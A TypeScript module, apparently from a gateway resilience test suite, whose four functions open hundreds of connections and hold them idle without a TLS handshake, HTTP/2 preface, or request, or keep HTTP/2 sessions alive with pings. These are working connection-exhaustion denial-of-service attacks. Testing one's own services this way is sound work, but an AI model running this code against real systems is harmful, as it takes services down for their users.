// SPDX-License-Identifier: Apache-2.0
// Connections that say nothing, or nothing more: TCP without a TLS handshake, TLS without the preface of HTTP/2, sessions
// without a stream (with pings that look like life), and HTTP/1.1 without a request.
import { type AttackOptions, dial, holding, type StartAttack, session, several } from './attack.ts';

export const noTlsHandshake: StartAttack = async (gateway, { connections = 600 }: AttackOptions = {}) =>
  holding(await several(connections, () => dial(gateway)));

export const noPreface: StartAttack = async (gateway, { connections = 600 }: AttackOptions = {}) =>
  holding(
    await several(connections, async () => {
      const socket = await dial(gateway, 'h2');
      socket.on('data', () => undefined);
      return socket;
    }),
  );

export const noRequest: StartAttack = async (gateway, { connections = 600 }: AttackOptions = {}) =>
  holding(
    await several(connections, async () => {
      const socket = await dial(gateway, 'http/1.1');
      socket.on('data', () => undefined);
      return socket;
    }),
  );

export const idleSessions: StartAttack = async (gateway, { connections = 600 }: AttackOptions = {}) => {
  const sessions = await several(connections, () => session(gateway));
  const pings = setInterval(() => {
    for (const one of sessions) if (!one.destroyed && !one.closed) one.ping(() => undefined);
  }, 1_000);
  return holding(sessions, () => clearInterval(pings));
};
